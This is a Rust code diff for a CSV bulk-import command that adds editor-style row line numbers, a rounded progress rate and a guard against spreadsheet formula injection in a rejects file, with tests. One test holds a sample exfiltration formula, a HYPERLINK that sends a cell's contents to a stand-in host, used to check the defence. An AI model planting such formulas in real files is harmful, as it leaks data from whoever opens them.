@@ -6,7 +6,13 @@
 //! The file has a header row naming its columns: `username` and `course_id` are
 //! required; `action`, `name`, `course_name`, `org`, `grade`, `designation`,
 //! `issued_date`, `template` and `callback_url` are optional (docs/CSV.md).
+//!
+//! Rows are reported by the line of the file they start on (as an editor numbers
+//! them: the header is line 1; `\n`, `\r\n` and a lone `\r` end a line; a quoted
+//! cell may span several). The rejects file is meant to be opened in a
+//! spreadsheet, so a cell that would run as a formula there is written inert.
 
+use std::borrow::Cow;
 use std::collections::BTreeMap;
 use std::path::PathBuf;
 use std::process::ExitCode;
@@ -14,7 +20,7 @@ use std::sync::Arc;
 use std::time::Duration;
 
 use anyhow::{bail, Context};
-use indicatif::{ProgressBar, ProgressStyle};
+use indicatif::{ProgressBar, ProgressState, ProgressStyle};
 use testamur_common::wire::{BatchResult, SubmitRequest};
 use tokio::sync::Semaphore;
 
@@ -198,23 +204,79 @@ pub async fn run(client: &ApiClient, o: &CsvOptions) -> anyhow::Result<ExitCode>
 
 fn progress(len: u64, what: &str) -> ProgressBar {
     let bar = ProgressBar::new(len);
-    if let Ok(style) =
-        ProgressStyle::with_template("{msg} [{bar:40}] {pos}/{len} ({per_sec}, {eta} left)")
-    {
-        bar.set_style(style.progress_chars("=> "));
+    if let Some(style) = progress_style() {
+        bar.set_style(style);
     }
     bar.set_message(what.to_owned());
     bar
 }
 
+/// `submitting [=====>    ] 1200/5000 (252/s, 15s left)`.
+fn progress_style() -> Option<ProgressStyle> {
+    let style =
+        ProgressStyle::with_template("{msg} [{bar:40}] {pos}/{len} ({rate}, {eta} left)").ok()?;
+    Some(style.progress_chars("=> ").with_key(
+        "rate",
+        |s: &ProgressState, w: &mut dyn std::fmt::Write| {
+            let _ = w.write_str(&rate(s.per_sec()));
+        },
+    ))
+}
+
+/// Rows (or certificates) per second, rounded as a person would say it:
+/// `252/s`, `3.5/s` (indicatif's own `{per_sec}` prints `252.2993/s`).
+fn rate(per_sec: f64) -> String {
+    if !per_sec.is_finite() || per_sec <= 0.0 {
+        "0/s".to_owned()
+    } else if per_sec < 9.95 {
+        format!("{per_sec:.1}/s")
+    } else {
+        format!("{per_sec:.0}/s")
+    }
+}
+
+/// Line numbers of byte offsets in a file, counted as an editor counts them.
+struct Lines<'a> {
+    bytes: &'a [u8],
+    /// Offsets at which lines 2, 3, ... start.
+    starts: Vec<usize>,
+}
+
+impl<'a> Lines<'a> {
+    fn new(bytes: &'a [u8]) -> Self {
+        let starts = bytes
+            .iter()
+            .enumerate()
+            .filter(|&(i, &b)| b == b'\n' || (b == b'\r' && bytes.get(i + 1) != Some(&b'\n')))
+            .map(|(i, _)| i + 1)
+            .collect();
+        Self { bytes, starts }
+    }
+
+    /// The line of the record csv starts reading at `offset`: csv positions a
+    /// record before the line break that ended the one before (the `\n` of a
+    /// `\r\n`) and skips blank lines, so the record begins at the first byte
+    /// from there on that is not a line break.
+    fn of_record(&self, offset: u64) -> u64 {
+        let mut o = usize::try_from(offset)
+            .unwrap_or(usize::MAX)
+            .min(self.bytes.len());
+        while o < self.bytes.len() && matches!(self.bytes[o], b'\r' | b'\n') {
+            o += 1;
+        }
+        1 + self.starts.partition_point(|&s| s <= o) as u64
+    }
+}
+
 /// Read the file: its header and one [`Row`] per record.
 fn read(file: &std::path::Path, default_action: &str) -> anyhow::Result<(Vec<String>, Vec<Row>)> {
+    let bytes = std::fs::read(file).with_context(|| format!("cannot read {}", file.display()))?;
+    let lines = Lines::new(&bytes);
     let mut reader = csv::ReaderBuilder::new()
         .has_headers(true)
         .flexible(true)
         .trim(csv::Trim::All)
-        .from_path(file)
-        .with_context(|| format!("cannot read {}", file.display()))?;
+        .from_reader(&bytes[..]);
     let headers: Vec<String> = reader
         .headers()
         .with_context(|| format!("{}: cannot read the header row", file.display()))?
@@ -242,7 +304,10 @@ fn read(file: &std::path::Path, default_action: &str) -> anyhow::Result<(Vec<Str
     for record in reader.records() {
         match record {
             Ok(rec) => {
-                let line = rec.position().map(|p| p.line()).unwrap_or(0);
+                let line = rec
+                    .position()
+                    .map(|p| lines.of_record(p.byte()))
+                    .unwrap_or(0);
                 let cells: Vec<String> = rec.iter().map(str::to_owned).collect();
                 let request = if cells.len() != headers.len() {
                     Err(format!(
@@ -260,7 +325,7 @@ fn read(file: &std::path::Path, default_action: &str) -> anyhow::Result<(Vec<Str
                 });
             }
             Err(e) => {
-                let line = e.position().map(|p| p.line()).unwrap_or(0);
+                let line = e.position().map(|p| lines.of_record(p.byte())).unwrap_or(0);
                 rows.push(Row {
                     line,
                     cells: Vec::new(),
@@ -327,10 +392,22 @@ fn write_rejects(
         rec.extend(r.cells.iter().cloned());
         // Rows of the wrong length are padded or cut to the header's columns.
         rec.resize(5 + headers.len(), String::new());
-        w.write_record(&rec)?;
+        w.write_record(rec.iter().map(|c| inert(c).into_owned()))?;
     }
     w.flush()?;
     Ok(())
+}
+
+/// A cell as it goes into the rejects file: one a spreadsheet would take for a
+/// formula (it starts with `=`, `+`, `-`, `@`, a tab or a carriage return) gets
+/// a leading `'`, so opening the file shows the text and runs nothing (OWASP,
+/// "CSV injection"). The error messages echo cells too, so they go through this.
+fn inert(cell: &str) -> Cow<'_, str> {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        Cow::Owned(format!("'{cell}"))
+    } else {
+        Cow::Borrowed(cell)
+    }
 }
 
 /// Retry a call that could not reach the CC (or met a 503) a few times.
@@ -411,4 +488,159 @@ pub async fn follow(
     }
     bar.finish_and_clear();
     Ok(out)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn lines_of(text: &[u8]) -> Vec<u64> {
+        let dir = tempfile::tempdir().unwrap();
+        let f = dir.path().join("rows.csv");
+        std::fs::write(&f, text).unwrap();
+        let (_, rows) = read(&f, "add").unwrap();
+        rows.iter().map(|r| r.line).collect()
+    }
+
+    /// The header is line 1 and every row is reported at the line it starts on,
+    /// whatever ends the lines (spreadsheets write `\r\n`), with a byte-order
+    /// mark, blank lines, and quoted cells spanning lines.
+    #[test]
+    fn rows_are_reported_at_their_line_in_the_file() {
+        assert_eq!(lines_of(b"username,course_id\na,c\nb,c\n"), [2, 3]);
+        assert_eq!(lines_of(b"username,course_id\r\na,c\r\nb,c\r\n"), [2, 3]);
+        assert_eq!(lines_of(b"username,course_id\ra,c\rb,c"), [2, 3]);
+        assert_eq!(
+            lines_of(b"\xef\xbb\xbfusername,course_id\r\na,c\r\n\r\n\r\nb,c\r\n"),
+            [2, 5]
+        );
+        assert_eq!(
+            lines_of(
+                b"username,course_id,name\r\na,c,\"two\r\nlines\"\r\nb,c,\"three\nmore\nlines\"\nd,c,x\n"
+            ),
+            [2, 4, 7]
+        );
+        // An unreadable row (not UTF-8) has its line too.
+        assert_eq!(
+            lines_of(b"username,course_id\r\na,c\r\nb,\xff\r\nd,c\r\n"),
+            [2, 3, 4]
+        );
+    }
+
+    fn reject(cells: &[&str], message: &str) -> Reject {
+        Reject {
+            line: 2,
+            cells: cells.iter().map(|c| c.to_string()).collect(),
+            status: "422".into(),
+            code: "invalid_value".into(),
+            field: "name".into(),
+            message: message.into(),
+        }
+    }
+
+    /// Cells a spreadsheet would run as formulas come out with a leading `'`,
+    /// in the row's own cells and in the echoed message alike.
+    #[test]
+    fn rejects_file_cells_cannot_run_as_formulas() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("rejects.csv");
+        let headers: Vec<String> = ["username", "course_id", "name"].map(String::from).to_vec();
+        let evil = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")";
+        write_rejects(
+            &path,
+            &headers,
+            &[
+                reject(&["u1", "c1", evil], "=1+1 is not a name"),
+                reject(&["+41 22", "-5", "@SUM(A1:A9)"], "fine"),
+                reject(&["\tx", "\ry", "Ada = Lovelace"], "fine"),
+            ],
+        )
+        .unwrap();
+        let mut r = csv::Reader::from_path(&path).unwrap();
+        let rows: Vec<Vec<String>> = r
+            .records()
+            .map(|rec| rec.unwrap().iter().map(str::to_owned).collect())
+            .collect();
+        assert_eq!(rows[0][4], "'=1+1 is not a name");
+        assert_eq!(rows[0][5..], ["u1", "c1", &format!("'{evil}")]);
+        assert_eq!(rows[1][5..], ["'+41 22", "'-5", "'@SUM(A1:A9)"]);
+        assert_eq!(rows[2][5..], ["'\tx", "'\ry", "Ada = Lovelace"]);
+        assert_eq!(rows[1][..5], ["2", "422", "invalid_value", "name", "fine"]);
+    }
+
+    #[test]
+    fn rates_are_rounded() {
+        assert_eq!(rate(252.2993), "252/s");
+        assert_eq!(rate(1234.5), "1234/s");
+        assert_eq!(rate(10.4), "10/s");
+        assert_eq!(rate(3.4567), "3.5/s");
+        assert_eq!(rate(9.96), "10/s");
+        assert_eq!(rate(0.0), "0/s");
+        assert_eq!(rate(f64::NAN), "0/s");
+    }
+
+    /// A terminal that keeps what is drawn on it.
+    #[derive(Debug, Default, Clone)]
+    struct Screen(Arc<std::sync::Mutex<String>>);
+
+    impl indicatif::TermLike for Screen {
+        fn width(&self) -> u16 {
+            120
+        }
+        fn move_cursor_up(&self, _: usize) -> std::io::Result<()> {
+            Ok(())
+        }
+        fn move_cursor_down(&self, _: usize) -> std::io::Result<()> {
+            Ok(())
+        }
+        fn move_cursor_right(&self, _: usize) -> std::io::Result<()> {
+            Ok(())
+        }
+        fn move_cursor_left(&self, _: usize) -> std::io::Result<()> {
+            Ok(())
+        }
+        fn write_line(&self, s: &str) -> std::io::Result<()> {
+            self.write_str(s)?;
+            self.write_str("\n")
+        }
+        fn write_str(&self, s: &str) -> std::io::Result<()> {
+            self.0.lock().unwrap().push_str(s);
+            Ok(())
+        }
+        fn clear_line(&self) -> std::io::Result<()> {
+            Ok(())
+        }
+        fn flush(&self) -> std::io::Result<()> {
+            Ok(())
+        }
+    }
+
+    /// What the bar draws: a rate like `997/s`, not `997.0089/s`.
+    #[test]
+    fn the_progress_bar_prints_a_rounded_rate() {
+        let screen = Screen::default();
+        let bar = ProgressBar::with_draw_target(
+            Some(1000),
+            indicatif::ProgressDrawTarget::term_like(Box::new(screen.clone())),
+        );
+        bar.set_style(progress_style().unwrap());
+        bar.set_message("submitting");
+        bar.inc(333);
+        std::thread::sleep(Duration::from_millis(150));
+        bar.inc(400);
+        bar.finish();
+        let text = screen.0.lock().unwrap().clone();
+        assert!(
+            text.contains("submitting [") && text.contains("/1000 ("),
+            "{text}"
+        );
+        let (before, _) = text.rsplit_once("/s, ").expect("a rate");
+        let number = before.rsplit('(').next().unwrap();
+        assert!(
+            !number.is_empty()
+                && number.chars().all(|c| c.is_ascii_digit() || c == '.')
+                && number.split('.').nth(1).is_none_or(|d| d.len() == 1),
+            "rate `{number}/s` in {text:?}"
+        );
+    }
 }
